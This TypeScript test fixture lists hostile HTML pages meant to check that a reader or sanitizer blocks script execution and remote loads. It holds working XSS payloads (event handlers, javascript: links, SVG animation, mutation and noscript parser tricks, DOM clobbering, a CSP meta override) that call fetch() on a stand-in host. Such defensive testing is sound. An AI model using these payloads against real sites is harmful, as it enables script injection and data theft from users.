/** A page that wants to run something, to ask somebody for something, or to lead elsewhere. */
export interface HostilePage {
  readonly what: string
  readonly html: string
  /** What it asks for where nothing holds it, after the address that it was given: `/ran-…` by a script. */
  readonly asks: readonly string[]
  /** It waits for somebody to follow its first link. */
  readonly pressed?: true
}

/** Pages that want something of `there`, or of `home`, from which the page around them is. `ran` is set where a script runs. */
export function hostilePages(there: string, home: string): readonly HostilePage[] {
  const run = (page: number): string => `top.ran=parent.ran=self.ran=1;fetch('${there}/ran-${page}')`
  return [
    {
      what: 'scripts',
      html: `<script>${run(1)}</script><script src="${there}/a.js"></script><script type="module">${run(1)}</script>`,
      asks: ['/a.js', '/ran-1'],
    },
    {
      what: 'handlers',
      html: `<img src="x:" onerror="${run(2)}"><body onload="${run(2)}"><details open ontoggle="${run(2)}">`,
      asks: ['/ran-2'],
    },
    {
      what: 'vectors',
      html: `<svg onload="${run(3)}"><image href="${there}/b.svg"/><script>${run(3)}</script><use href="${there}/c.svg#d"/></svg>`,
      asks: ['/b.svg', '/ran-3'],
    },
    {
      what: 'vector links',
      html: `<svg><a xlink:href="javascript:${run(4)}"><text y="20">x</text></a><a xlink:href="x:"><animate attributeName="href" values="javascript:${run(4)}"/><text y="40">x</text></a></svg>`,
      asks: ['/ran-4'],
      pressed: true,
    },
    {
      what: 'formulas',
      html: `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=${there}/e onerror=${run(5)}&gt;">`,
      // It acts in what is parsed twice: what takes something out of a page may have it do so.
      asks: [],
    },
    {
      what: 'templates',
      html: `<template><img src="${there}/f" onerror="${run(6)}"></template><noscript><p title="</noscript><img src=${there}/g onerror=${run(6)}>"></noscript>`,
      asks: ['/g', '/ran-6'],
    },
    {
      what: 'pictures',
      html: `<img src="${there}/h.png"><img srcset="${there}/i.png 1x, ${there}/j.png 2x"><picture><source srcset="${there}/k.webp"><img src="//${there.slice(7)}/l"></picture>`,
      asks: ['/h.png', '/i.png', '/k.webp'],
    },
    {
      what: 'old pictures',
      html: `<body background="${there}/m.png"><table background="${there}/n.png"><tr><td background="${there}/o.png">x</table><input type="image" src="${there}/p.png">`,
      asks: ['/m.png', '/p.png'],
    },
    {
      what: 'style sheets',
      html: `<link rel="stylesheet" href="${there}/q.css"><style>@import url(${there}/r.css);body{background:url(${there}/s.png)}</style>`,
      asks: ['/q.css', '/r.css'],
    },
    {
      what: 'styles',
      html: `<p style="background:url(${there}/t.png);list-style:url(${there}/u.png)">x</p><style>@font-face{font-family:z;src:url(${there}/v.woff)}p{font-family:z}</style>`,
      asks: ['/t.png', '/v.woff'],
    },
    {
      what: 'sound and film',
      html: `<video src="${there}/w.mp4" poster="${there}/x.png" autoplay></video><audio src="${there}/y.mp3" autoplay></audio><track src="${there}/z.vtt">`,
      asks: ['/x.png'],
    },
    {
      what: 'frames',
      html: `<iframe src="${there}/1"></iframe><iframe srcdoc="<script>${run(12)}</script><img src=${there}/2>"></iframe><object data="${there}/3"></object><embed src="${there}/4">`,
      asks: ['/1', '/2', '/3', '/ran-12'],
    },
    {
      what: 'hints',
      html: `<link rel="preload" as="image" href="${there}/5.png"><link rel="prefetch" href="${there}/6"><link rel="preconnect" href="${there}"><link rel="dns-prefetch" href="${there}"><link rel="icon" href="${there}/7.ico"><link rel="manifest" href="${there}/8">`,
      asks: ['/5.png'],
    },
    {
      what: 'newer hints',
      html: `<link rel="modulepreload" href="${there}/20.js"><link rel="prerender" href="${there}/21"><link rel="preload" as="image" imagesrcset="${there}/22.png 1x"><script type="speculationrules">{"prefetch":[{"urls":["${there}/23"],"eagerness":"immediate"}]}</script>`,
      asks: ['/20.js', '/22.png'],
    },
    {
      what: 'newer styles',
      html: `<p style="background:image-set(url(${there}/24.png) 1x);cursor:url(${there}/25.cur),auto;mask:url(${there}/26.svg);filter:url(${there}/27.svg#a);content:url(${there}/28.png)">x</p><style>:root{--a:url(${there}/29.png)}p{background:var(--a);border-image:url(${there}/30.png) 1;shape-outside:url(${there}/31.png)}</style>`,
      asks: ['/24.png', '/30.png'],
    },
    {
      what: 'shadows',
      html: `<div><template shadowrootmode="open"><style>@import url(${there}/32.css)</style><img src="${there}/33" onerror="${run(16)}"></template></div>`,
      asks: ['/32.css', '/33', '/ran-16'],
    },
    {
      what: 'pictures in vectors',
      html: `<svg><filter id="f"><feImage href="${there}/34.png"/></filter><pattern><image xlink:href="${there}/35.png"/></pattern><style>@import url(${there}/36.css);</style><foreignObject><img src="${there}/37"></foreignObject><script href="${there}/38.js"></script><rect filter="url(#f)" width="9" height="9"/></svg>`,
      asks: ['/35.png', '/37', '/38.js'],
    },
    {
      what: 'forgotten tags',
      html: `<bgsound src="${there}/39.mid"><applet code="${there}/40"></applet><frameset><frame src="${there}/41"></frameset><img lowsrc="${there}/42" dynsrc="${there}/43" longdesc="${there}/44"><fencedframe src="${there}/45"></fencedframe><img attributionsrc="${there}/46" src="x:"><input type="image" formaction="${there}/47" src="${there}/48">`,
      asks: ['/48'],
    },
    {
      what: 'other places',
      html: `<meta http-equiv="refresh" content="0;url=${there}/9"><base href="${there}/"><img src="10.png"><a href="11" ping="${there}/12" autofocus>x</a>`,
      asks: ['/10.png', '/9'],
    },
    {
      what: 'forms',
      html: `<form id="f" action="${there}/13"><input name="a" autofocus onfocus="${run(20)}"><button>x</button></form><form action="javascript:${run(20)}"><input type="submit" autofocus></form>`,
      // Beside others nobody gives it the focus that it wants.
      asks: [],
    },
    {
      what: 'another policy',
      html: `</body></html><html><head><meta http-equiv="Content-Security-Policy" content="default-src *"><script>${run(21)}</script></head><body><img src="${there}/14">`,
      asks: ['/14', '/ran-21'],
    },
    {
      what: 'clobbering',
      html: `<form name="document"><input name="createElement"></form><img name="body" src="${there}/15"><a id="trustedTypes"></a><a id="location" href="${there}/16"></a>`,
      asks: ['/15'],
    },
    {
      what: 'addresses',
      html: `<a href="javascript:${run(23)}">x</a><a href="data:text/html,<script>${run(23)}</script>">y</a><iframe src="javascript:${run(23)}"></iframe><img src="cid:${there}/17"><img src="javascript:${run(23)}">`,
      asks: ['/ran-23'],
      pressed: true,
    },
    {
      what: 'the files of the page around it',
      html: `<img src="${home}/frame.html?wanted=1"><link rel="stylesheet" href="${home}/reader.css?wanted=2"><script src="${home}/frame.html?wanted=3"></script><iframe src="${home}/frame.html?wanted=4"></iframe>`,
      asks: [1, 2, 3, 4].map((n) => `/${n === 2 ? 'reader.css' : 'frame.html'}?wanted=${n}`),
    },
    {
      what: 'another page of the same place',
      html: `<meta http-equiv="refresh" content="0;url=${home}/frame.html?wanted=5">`,
      asks: ['/frame.html?wanted=5'],
    },
  ]
}
